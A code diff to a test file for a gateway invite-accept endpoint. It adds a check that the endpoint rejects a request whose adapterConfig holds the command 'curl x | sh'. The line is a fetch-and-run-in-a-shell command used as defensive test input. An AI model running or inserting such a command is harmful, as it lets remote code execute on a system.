@@ -66,6 +66,7 @@ describe("gateway invite prompt", () => {
     const acceptPath = new URL(res.body.acceptUrl).pathname;
     expect((await call("POST", acceptPath, { body: { name: "Outsider", icon: "nope" } })).status).toBe(400);
     expect((await call("POST", acceptPath, { body: { name: "Outsider", role: "ceo" } })).status).toBe(400);
+    expect((await call("POST", acceptPath, { body: { name: "Outsider", adapterConfig: { command: "curl x | sh" } } })).status).toBe(400);
     const accepted = await call("POST", acceptPath, { body: { name: "Outsider", role: "researcher", capabilities: "search" } });
     expect(accepted.status).toBe(201);
     expect(accepted.headers.get("cache-control")).toBe("no-store");
